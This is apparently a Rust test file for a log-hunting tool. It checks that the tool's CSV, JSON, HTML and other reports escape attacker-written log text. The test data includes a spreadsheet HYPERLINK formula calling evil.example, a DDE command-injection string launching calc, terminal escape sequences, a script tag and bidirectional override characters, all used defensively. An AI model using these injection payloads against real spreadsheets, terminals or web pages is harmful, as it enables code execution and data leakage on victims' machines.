//! Text that an attacker writes into logs, in every function that reads or writes it.
//!
//! `.ci/run` tests the properties for about a minute (`PROPTEST_CASES`).

use std::convert::Infallible;

use dragnet::config::SightingsForm;
use dragnet::report::{AccountNames, defuse, escape, write_sightings};
use dragnet::search::{Matcher, event_details};
use dragnet_model::{EventDetails, OwnCall, Sighting, Stored, UserIdentity};
use proptest::prelude::*;

use crate::scenario::Event;
use crate::world::World;

const IP: &str = "192.0.2.1";

/// Returns hostile messages by name. Each contains the address.
fn hostile_messages() -> Vec<(&'static str, String)> {
    [json_messages(), record_messages(), text_messages()].concat()
}

/// JSON that is malformed, deep, large or ambiguous.
fn json_messages() -> Vec<(&'static str, String)> {
    let field = |n: u32| format!("\"{n}\":1,");
    vec![
        ("not JSON", format!("{{\"a\": {IP}")),
        (
            "10,000 levels",
            format!("{}\"{IP}\"{}", "[".repeat(10_000), "]".repeat(10_000)),
        ),
        (
            "10,000 levels of objects",
            format!("{}\"{IP}\"{}", "{\"a\":".repeat(10_000), "}".repeat(10_000)),
        ),
        ("keys twice", format!(r#"{{"a":"{IP}","a":1,"a":"{IP}"}}"#)),
        (
            "huge numbers",
            format!(r#"{{"a":1e999999,"b":{},"c":"{IP}"}}"#, "9".repeat(400)),
        ),
        (
            "lone surrogates",
            format!(r#"{{"a":"\ud800","b":"{IP}","c":"\udc00\ud800"}}"#),
        ),
        (
            "NUL in JSON",
            format!(r#"{{"a\u0000b":"\u0000","c":"{IP}"}}"#),
        ),
        (
            "100,000 fields",
            format!(
                "{{{}\"z\":\"{IP}\"}}",
                (0..100_000).map(field).collect::<String>()
            ),
        ),
    ]
}

/// CloudTrail records with ambiguous keys or extreme times.
fn record_messages() -> Vec<(&'static str, String)> {
    let record = |time: &str, id: &str| {
        format!(
            r#"{{"eventTime":"{time}","eventSource":"s","eventName":"n","awsRegion":"us-east-1","eventID":"{id}","sourceIPAddress":"{IP}"}}"#
        )
    };
    vec![
        (
            "a record's keys twice",
            record("2026-03-02T10:00:00Z", "r")
                .replace("\"eventName\"", "\"eventID\":\"x\",\"eventName\""),
        ),
        ("year 0", record("0000-01-01T00:00:00Z", "zero")),
        ("year 9999", record("9999-12-30T23:59:59Z", "late")),
        ("no valid year", record("-999999-01-01T00:00:00Z", "none")),
    ]
}

/// Plain text that a terminal, a spreadsheet or a browser could execute or misread.
fn text_messages() -> Vec<(&'static str, String)> {
    vec![
        ("NUL", format!("\0{IP}\0")),
        ("an event of 1 MB", format!("{}{IP}", "x ".repeat(500_000))),
        (
            "a formula",
            format!("=HYPERLINK(\"http://evil.example/?{IP}\")"),
        ),
        ("a command", format!("+cmd|' /C calc'!A0 {IP}")),
        ("tab and formula", format!("\t@SUM(1) {IP}")),
        (
            "escape sequences",
            format!("\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m {IP}"),
        ),
        ("right to left", format!("\u{202e}{IP} \u{2066}x")),
        ("quotes and lines", format!("\"\r\n\",\"{IP}\"\n")),
        ("markup", format!("<script>alert(1)</script> {IP}")),
    ]
}

/// All formats but the binary one.
const FORMATS: &str = "csv,jsonl,json,html,md,security-ir,ocsf,timesketch,stix";

#[tokio::test(start_paused = true)]
async fn hostile_messages_are_reported_and_escaped() {
    let cases = hostile_messages();
    let plant = |message: &String| {
        Event::new("222222222222", "eu-west-1", "/app", "1h ago", message)
            .stream("=1+1\u{1b}[2J")
            .to_string()
    };
    let planted: String = cases.iter().map(|(_, message)| plant(message)).collect();
    let run = World::small_with(&planted)
        .sweep(&[IP, "--since", "24h", "--format", FORMATS])
        .await;
    assert_eq!(run.status(), "complete");
    let page = run.file("report.html");
    assert!(
        page.contains("&lt;script&gt;alert(1)&lt;/script&gt;") && page.contains("\\u{202e}"),
        "{page}"
    );
    assert_eq!(page.matches("<script").count(), 1, "the page's own script");
    assert!(!page.contains("<script>alert") && !page.contains(['\u{1b}', '\0', '\u{202e}']));
    let lines: Vec<serde_json::Value> = run
        .file("sightings.jsonl")
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    for (name, message) in &cases {
        let found = lines
            .iter()
            .filter(|line| line["message"] == message.as_str())
            .count();
        assert_eq!(found, 1, "{name}: one sighting with the exact message");
    }
    assert_eq!(lines.len(), cases.len());
    let ocsf: Vec<serde_json::Value> = run
        .file("ocsf.jsonl")
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let texts = |rows: &[serde_json::Value], column: &str| -> Vec<serde_json::Value> {
        rows.iter().map(|row| row[column].clone()).collect()
    };
    assert_eq!(texts(&ocsf, "raw_data"), texts(&lines, "message"));
    assert_eq!(
        serde_json::from_str::<Vec<serde_json::Value>>(&run.file("sightings.json")).unwrap(),
        lines
    );
    let csv = run.file("sightings.csv");
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), cases.len(), "every row has all its columns");
    assert!(rows.iter().flatten().all(is_safe_csv_field));
    for name in [
        "report.md",
        "security-ir.json",
        "stix.json",
        "timesketch.csv",
    ] {
        let text = run.file(name);
        assert!(
            !text.contains(['\u{1b}', '\0', '\u{202e}']),
            "{name}: {text}"
        );
    }
}

fn is_safe_csv_field(field: &str) -> bool {
    !field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
}

/// Text of arbitrary characters, in which dangerous ones are frequent.
fn hostile_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        any::<String>(),
        "[=+\\-@\t\r\n\"',;|{}\\[\\]:\\\\ \u{0}-\u{1f}\u{7f}-\u{9f}\u{202a}-\u{202e}\u{2066}-\u{2069}\u{feff}]{0,20}",
        prop::sample::select(vec![
            IP.to_owned(),
            "{\"eventTime\":\"".to_owned(),
            "\\ud800".to_owned(),
            "1e9999".to_owned(),
            "2026-03-02T12:00:00Z".to_owned(),
            "\u{1b}[2J".to_owned(),
            "{\"a\":[{\"b\":\"".to_owned(),
        ]),
    ];
    prop::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
}

fn sighting(text: &str) -> Sighting {
    let text = || text.to_owned();
    Sighting {
        stored: Stored {
            account: "111111111111".parse().unwrap(),
            region: "us-east-1".parse().unwrap(),
            source: dragnet_model::StorageKind::Logs,
            log_group: text(),
            log_stream: text(),
            event_id: text(),
            timestamp_ms: i64::MIN,
            ingestion_ms: i64::MAX,
        },
        details: EventDetails {
            account: text().into(),
            region: text().into(),
            identity: UserIdentity {
                arn: text().into(),
                ..UserIdentity::default()
            },
            ..event_details(&text(), "1", "r", 0)
        },
        indicators: vec![text()],
        hunts: Vec::new(),
        matched_fields: vec![text(), text()],
        copies: 1,
        own_call: OwnCall::No,
        trusted: true,
        copies_differ: false,
        message: text(),
    }
}

fn report(form: SightingsForm, text: &str) -> Vec<u8> {
    let mut out = Vec::new();
    let names = AccountNames::from([(text.to_owned(), text.to_owned())]);
    write_sightings(
        form,
        [Ok::<_, Infallible>(sighting(text))],
        &names,
        &mut out,
    )
    .unwrap();
    out
}

proptest! {
    #[test]
    fn escape_removes_control_characters(text in hostile_text()) {
        let shown = escape(&text);
        let is_control = |c: char| c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        prop_assert!(!shown.contains(is_control));
    }

    #[test]
    fn csv_fields_are_not_formulas(text in hostile_text()) {
        prop_assert!(is_safe_csv_field(&defuse(&text)));
        prop_assert!(!defuse(&text).contains(char::is_control));
        let parts = defuse(&text).split([',', ';', '|']).all(is_safe_csv_field);
        prop_assert!(parts, "whichever separator splits the cell");
        let written = report(SightingsForm::Csv, &text);
        let mut rows = csv::Reader::from_reader(&written[..]);
        let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
        prop_assert_eq!(rows.len(), 1);
        prop_assert!(rows[0].iter().all(is_safe_csv_field));
        let message = rows[0].iter().rev().nth(4);
        prop_assert_eq!(message.unwrap(), defuse(&text));
    }

    #[test]
    fn json_keeps_every_message_exact(text in hostile_text()) {
        let line: serde_json::Value = serde_json::from_slice(&report(SightingsForm::Jsonl, &text)).unwrap();
        prop_assert_eq!(line["message"].as_str(), Some(text.as_str()));
        let array: serde_json::Value = serde_json::from_slice(&report(SightingsForm::Json, &text)).unwrap();
        prop_assert_eq!(&array[0], &line);
    }

    #[test]
    fn delimited_indicator_is_found_in_any_text(before in hostile_text(), after in hostile_text()) {
        let matcher = Matcher::new(&[IP.parse().unwrap()]).unwrap();
        // A backslash before the address would spell another character in JSON.
        prop_assume!(!before.ends_with('\\'));
        let message = format!("{before} {IP} {after}");
        prop_assert!(matcher.find(&message).is_some(), "{message:?}");
        let value = serde_json::to_string(&message).unwrap();
        prop_assert!(matcher.find(&format!("{{\"a\":{value}}}")).is_some(), "{value:?}");
    }

    #[test]
    fn parsers_accept_any_text(text in hostile_text(), stored in any::<i64>()) {
        let details = event_details(&text, "111111111111", "us-east-1", stored);
        prop_assert!(!details.record_id.is_empty() || details.time_ms == stored);
        let all = ["192.0.2.0/24", "2001:db8::/32", "AKIAIOSFODNN7EXAMPLE", "arn:aws:iam::111111111111:user/a", "x"];
        let all: Vec<_> = all.iter().map(|text| text.parse().unwrap()).collect();
        _ = Matcher::new(&all).unwrap().find(&text);
    }
}
